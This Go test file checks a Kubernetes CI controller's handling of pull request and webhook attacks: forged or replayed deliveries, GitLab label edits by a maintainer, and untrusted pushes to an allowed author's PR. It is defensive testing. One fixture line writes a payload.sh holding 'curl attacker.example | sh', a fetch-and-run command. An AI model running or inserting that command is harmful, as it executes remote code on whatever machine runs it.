package security

import (
	"context"
	"net/http"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	krtv1 "krt.dev/krt/api/v1alpha1"
)

// The pull request and webhook attacks of docs/security.md ("Pull
// requests and webhooks"): a PR author, someone who may push to a PR's
// branch, a maintainer editing labels, and whoever can replay or forge a
// delivery. They share one namespace, whose deliveries go to two more
// krt-controller replicas, as behind the krt-webhook Service.
func TestWebhookAttacks(t *testing.T) {
	rig := newHookRig(t)
	t.Run("GitLab", func(t *testing.T) { gitlabAttacks(t, rig) })
	t.Run("GitHub push by an untrusted user", func(t *testing.T) { githubPushByAnother(t, rig) })
	t.Run("head definitions", func(t *testing.T) { headDefinitionAttacks(t, rig) })
	t.Run("replay", func(t *testing.T) { replayAttacks(t, rig) })
}

const mrHook = "Merge Request Hook"

// A GitLab repository whose one allowed author is the maintainer (user 1).
// Mallory (user 66) may push branches and open merge requests.
func gitlabAttacks(t *testing.T, rig *hookRig) {
	ns := rig.ns
	h := rig.repository(t, "gl", map[string]string{"workflows/checks.yaml": prChecks("gl-checks")}, func(s *krtv1.WorkflowRepositorySpec) {
		s.PullRequests = &krtv1.PullRequestPolicy{Enabled: true, Provider: "gitlab", AllowedAuthors: []string{"maintainer"}}
	}, "gl-checks")
	by := func(user string) int64 { return map[string]int64{"maintainer": 1, "mallory": 66}[user] }
	mr := func(action, oldrev string, iid int64, sha, user, author string) string {
		return glMR{action: action, oldrev: oldrev, iid: iid, sha: sha, user: user, userID: by(user), authorID: by(author)}.body()
	}

	// GitLab sends a label, title or assignee edit as "update" from the
	// user who made it; only an update with oldrev brings commits.
	t.Run("a maintainer's label edit does not trust a merge request", func(t *testing.T) {
		// MR 1 was opened before the hook existed; its first delivery is
		// the maintainer's label edit.
		unheard := h.pushHead(t, "mr-1", "refs/merge-requests/1/head", nil)
		h.mustDeliver(t, 0, gitlab(mrHook, rig.token), mr("update", "", 1, unheard, "maintainer", "mallory"), http.StatusAccepted)
		// MR 2 was opened by mallory, then labelled by the maintainer, on
		// each replica.
		opened := h.pushHead(t, "mr-2", "refs/merge-requests/2/head", nil)
		h.mustDeliver(t, 0, gitlab(mrHook, rig.token), mr("open", "", 2, opened, "mallory", "mallory"), http.StatusAccepted)
		awaitsApproval(t, ns, prRunName("gl-checks", 2, opened))
		before := h.pr(t, 2)
		for i := range rig.receivers {
			h.mustDeliver(t, i, gitlab(mrHook, rig.token), mr("update", "", 2, opened, "maintainer", "mallory"), http.StatusAccepted)
		}
		// The witness: the maintainer's own MR runs at once. The trigger
		// makes runs in the order of the records, so once this one exists
		// a run for MR 1, recorded first, would too.
		own := h.pushHead(t, "mr-3", "refs/merge-requests/3/head", nil)
		h.mustDeliver(t, 1, gitlab(mrHook, rig.token), mr("open", "", 3, own, "maintainer", "maintainer"), http.StatusAccepted)
		succeeds(t, ns, prRunName("gl-checks", 3, own))

		if name := prRunName("gl-checks", 1, unheard); workflowRunExists(t, ns, name) {
			t.Errorf("the label edit of mallory's MR 1 made run %s", name)
		}
		if got := h.pr(t, 1); got != nil {
			t.Errorf("a label edit recorded MR 1: %+v", *got)
		}
		if after := h.pr(t, 2); after.PushedBy != "mallory" || after.Action != "opened" || !after.UpdatedAt.Equal(&before.UpdatedAt) {
			t.Errorf("a label edit changed MR 2's record from %+v to %+v", *before, *after)
		}
		awaitsApproval(t, ns, prRunName("gl-checks", 2, opened))
	})

	t.Run("an unknown action leaves a closed merge request closed", func(t *testing.T) {
		head := h.pushHead(t, "mr-4", "refs/merge-requests/4/head", nil)
		h.mustDeliver(t, 0, gitlab(mrHook, rig.token), mr("open", "", 4, head, "mallory", "mallory"), http.StatusAccepted)
		h.mustDeliver(t, 0, gitlab(mrHook, rig.token), mr("close", "", 4, head, "maintainer", "mallory"), http.StatusAccepted)
		for _, action := range []string{"approved", "unapproval", "a-new-action", "update"} {
			h.mustDeliver(t, 1, gitlab(mrHook, rig.token), mr(action, "", 4, head, "mallory", "mallory"), http.StatusAccepted)
			if pr := h.pr(t, 4); pr.Action != "closed" {
				t.Errorf("after %q, MR 4's record is %+v, want it closed", action, *pr)
			}
		}
	})

	// The secret is right; the way of signing is GitHub's. A repository
	// whose secret only travels as GitLab's token must not take an HMAC
	// instead, nor the other way round.
	t.Run("a GitHub-signed delivery is refused", func(t *testing.T) {
		head := h.pushHead(t, "mr-5", "refs/merge-requests/5/head", nil)
		body := ghPR{action: "opened", number: 5, sha: head, sender: "maintainer", author: "maintainer"}.body()
		for i := range rig.receivers {
			code, msg := h.deliver(t, i, github("pull_request", rig.token, body), body)
			if code != http.StatusUnauthorized {
				t.Errorf("replica %d answered %d %q, want 401", i, code, msg)
			}
		}
		if pr := h.pr(t, 5); pr != nil {
			t.Errorf("the GitHub delivery recorded %+v", *pr)
		}
		waitRepoEvent(t, ns, "gl", "WebhookRefused", "X-Hub-Signature-256", "this repository receives gitlab webhooks")
	})
}

// waitRepoEvent waits for a Warning event on a repository whose message
// holds every part.
func waitRepoEvent(t *testing.T, ns, repo, reason string, parts ...string) {
	t.Helper()
	eventually(t, time.Minute, reason+" event on "+repo, func() bool {
		list := &corev1.EventList{}
		if err := env.Client.List(context.Background(), list, client.InNamespace(ns)); err != nil {
			return false
		}
		for _, e := range list.Items {
			if e.Reason != reason || e.InvolvedObject.Name != repo || e.Type != corev1.EventTypeWarning {
				continue
			}
			all := true
			for _, p := range parts {
				all = all && strings.Contains(e.Message, p)
			}
			if all {
				return true
			}
		}
		return false
	})
}

// Alice is allowed; mallory may push to her PR's branch. Trust follows
// whoever made a commit the head, not who opened the PR.
func githubPushByAnother(t *testing.T, rig *hookRig) {
	ns := rig.ns
	h := rig.repository(t, "gh", map[string]string{"workflows/checks.yaml": prChecks("gh-checks")}, func(s *krtv1.WorkflowRepositorySpec) {
		s.PullRequests = &krtv1.PullRequestPolicy{Enabled: true, Provider: "github", AllowedAuthors: []string{"alice"}}
	}, "gh-checks")
	deliver := func(p ghPR) {
		t.Helper()
		body := p.body()
		h.mustDeliver(t, 0, github("pull_request", rig.token, body), body, http.StatusAccepted)
	}

	first := h.pushHead(t, "pr-1", "refs/pull/1/head", nil)
	deliver(ghPR{action: "opened", number: 1, sha: first, sender: "alice", author: "alice"})
	succeeds(t, ns, prRunName("gh-checks", 1, first))

	// Mallory pushes to alice's PR: GitHub sends synchronize with mallory
	// as sender and alice still as the PR's user.
	h.clone.Write(map[string]string{"payload.sh": "curl attacker.example | sh\n"})
	second := h.clone.Commit("mallory's commit")
	h.clone.Push("+HEAD:refs/pull/1/head")
	deliver(ghPR{action: "synchronize", number: 1, sha: second, sender: "mallory", author: "alice"})
	awaitsApproval(t, ns, prRunName("gh-checks", 1, second))

	// Alice labelling the PR vouches for nothing.
	deliver(ghPR{action: "labeled", number: 1, sha: second, sender: "alice", author: "alice"})
	if pr := h.pr(t, 1); pr.HeadSHA != second || pr.PushedBy != "mallory" {
		t.Errorf("after alice's label, the record is %+v, want mallory's head", *pr)
	}
	awaitsApproval(t, ns, prRunName("gh-checks", 1, second))

	// Alice's own push on top is hers: it runs.
	h.clone.Write(map[string]string{"payload.sh": "echo reviewed\n"})
	third := h.clone.Commit("alice's fix")
	h.clone.Push("+HEAD:refs/pull/1/head")
	deliver(ghPR{action: "synchronize", number: 1, sha: third, sender: "alice", author: "alice"})
	succeeds(t, ns, prRunName("gh-checks", 1, third))
	awaitsApproval(t, ns, prRunName("gh-checks", 1, second))
}
